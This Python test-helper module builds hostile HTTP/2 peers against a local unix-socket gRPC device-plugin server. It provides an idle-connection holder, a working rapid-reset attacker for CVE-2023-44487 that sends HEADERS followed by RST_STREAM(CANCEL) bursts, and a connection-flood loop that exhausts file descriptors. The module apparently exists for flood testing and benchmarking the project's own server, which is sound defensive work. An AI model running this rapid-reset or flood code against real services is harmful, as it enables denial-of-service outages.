"""Hostile HTTP/2 peers on a plugin socket, for test_flood.py and the benchmark.

Both speak HTTP/2 by hand over the unix socket (the frames are few and fixed,
and no HTTP/2 library is a dependency):

- hold_connections(): many connections that send the client preface and an
  empty SETTINGS (a well-formed HTTP/2 client, so the server keeps them) and
  then nothing, held open by this process;
- RAPID_RESET, run as a child process by start_rapid_reset(): one connection
  sending HEADERS for Allocate and RST_STREAM(CANCEL) for it at once, stream
  after stream (CVE-2023-44487), reconnecting whenever the server closes it.
"""

from __future__ import annotations

import os
import socket
import struct
import subprocess
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 0x1, 0x3, 0x4
END_HEADERS, ACK = 0x4, 0x1
CANCEL = 0x8


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """An HPACK "literal header field without indexing, new name" (RFC 7541
    6.2.2); every string here is shorter than 127 bytes, so one length byte."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


ALLOCATE_HEADERS = b"".join(literal(name, value) for name, value in (
    (b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/v1beta1.DevicePlugin/Allocate"),
    (b":authority", b"localhost"), (b"content-type", b"application/grpc"), (b"te", b"trailers"),
))
# A client's opening: the preface, an empty SETTINGS, and the ACK of the
# server's SETTINGS (which a gRPC server sends first thing, unasked).
OPENING = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)


def hold_connections(path: str, count: int, deadline_s: float = 30.0) -> list[socket.socket]:
    """`count` HTTP/2 connections to the unix socket at `path`, each opened and then idle.

    The caller closes them. Connections the server refuses or closes at once
    are kept anyway (closed): the count is of attempts.
    """
    held: list[socket.socket] = []
    deadline = time.monotonic() + deadline_s
    try:
        while len(held) < count and time.monotonic() < deadline:
            conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            held.append(conn)
            try:
                conn.connect(path)
                conn.sendall(OPENING)
            except OSError:
                pass
    except BaseException:
        for conn in held:
            conn.close()
        raise
    return held


def open_connections(held: list[socket.socket]) -> int:
    """How many of `held` the server has not closed: a peek that finds EOF is closed."""
    alive = 0
    for conn in held:
        try:
            conn.setblocking(False)
            while True:
                data = conn.recv(65536)
                if not data:
                    break
        except BlockingIOError:
            alive += 1
        except OSError:
            pass
    return alive


# The attacker, as a script of its own (its CPU must not be the test's):
# argv socket path, seconds, streams per second (0 = as fast as it can).
# Prints the number of streams sent when it ends.
RAPID_RESET = """
import socket, sys, time
from flood_peers import ALLOCATE_HEADERS, CANCEL, END_HEADERS, HEADERS, OPENING, RST_STREAM, frame
path, seconds, rate = sys.argv[1], float(sys.argv[2]), float(sys.argv[3])
BATCH = 32
sent, connections = 0, 0
start = time.monotonic()
conn = None
stream_id = 1
print("started", flush=True)
while time.monotonic() - start < seconds:
    if conn is None:
        try:
            conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            conn.connect(path)
            conn.sendall(OPENING)
            conn.setblocking(False)
            connections += 1
            stream_id = 1
        except OSError:
            conn = None
            time.sleep(0.01)
            continue
    burst = b"".join(
        frame(HEADERS, END_HEADERS, sid, ALLOCATE_HEADERS) + frame(RST_STREAM, 0, sid, CANCEL.to_bytes(4, "big"))
        for sid in range(stream_id, stream_id + 2 * BATCH, 2))
    try:
        view = memoryview(burst)
        while view:
            try:
                view = view[conn.send(view):]
            except BlockingIOError:
                time.sleep(0.0005)
            try:
                while conn.recv(65536):
                    pass
                raise ConnectionError("closed by the server")
            except BlockingIOError:
                pass
    except OSError:
        conn.close()
        conn = None
        continue
    stream_id += 2 * BATCH
    sent += BATCH
    if stream_id > 2**31 - 2 * BATCH:
        conn.close()
        conn = None
    if rate:
        time.sleep(max(0.0, start + sent / rate - time.monotonic()))
print(sent, connections, flush=True)
"""


def start_rapid_reset(path: str, seconds: float, rate: float = 0.0) -> subprocess.Popen:
    """The rapid-reset attacker on `path` for `seconds`, once it runs. The
    caller waits for it (its last line: streams sent, connections made) or kills it."""
    here = os.path.dirname(os.path.abspath(__file__))
    attacker = subprocess.Popen([sys.executable, "-c", RAPID_RESET, path, str(seconds), str(rate)],
                                cwd=here, stdout=subprocess.PIPE, text=True)
    try:
        if attacker.stdout.readline() != "started\n":
            raise RuntimeError("the rapid-reset attacker did not start")
    except BaseException:
        attacker.kill()
        attacker.wait()
        raise
    return attacker


# A flood that holds every connection it can, as a script of its own: argv
# socket path, seconds. It connects in a loop (to whatever server is at the
# path: a new one after each registration), keeps each connection the server
# keeps, and replaces the ones the server closes, up to HELD_MAX at once.
CONNECT_LOOP = """
import resource, select, socket, sys, time
from flood_peers import OPENING
path, seconds = sys.argv[1], float(sys.argv[2])
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
HELD_MAX = min(hard - 64, 20000)
held = {}
attempts = 0
poller = select.epoll()
start = time.monotonic()
print("started", flush=True)
while time.monotonic() - start < seconds:
    if len(held) < HELD_MAX:
        conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        attempts += 1
        try:
            conn.connect(path)
            conn.sendall(OPENING)
        except OSError:
            conn.close()
            time.sleep(0.0002)
        else:
            conn.setblocking(False)
            held[conn.fileno()] = conn
            poller.register(conn.fileno(), select.EPOLLIN | select.EPOLLRDHUP)
    for fd, events in poller.poll(0):
        conn = held[fd]
        try:
            data = conn.recv(65536)
        except BlockingIOError:
            continue
        except OSError:
            data = b""
        if not data:
            poller.unregister(fd)
            del held[fd]
            conn.close()
print(attempts, len(held), flush=True)
"""


def start_connect_loop(path: str, seconds: float) -> subprocess.Popen:
    """CONNECT_LOOP on `path` for `seconds`, once it runs; the caller kills it
    or waits for its last line (attempts, connections held at the end)."""
    here = os.path.dirname(os.path.abspath(__file__))
    flood = subprocess.Popen([sys.executable, "-c", CONNECT_LOOP, path, str(seconds)],
                             cwd=here, stdout=subprocess.PIPE, text=True)
    try:
        if flood.stdout.readline() != "started\n":
            raise RuntimeError("the connection flood did not start")
    except BaseException:
        flood.kill()
        flood.wait()
        raise
    return flood
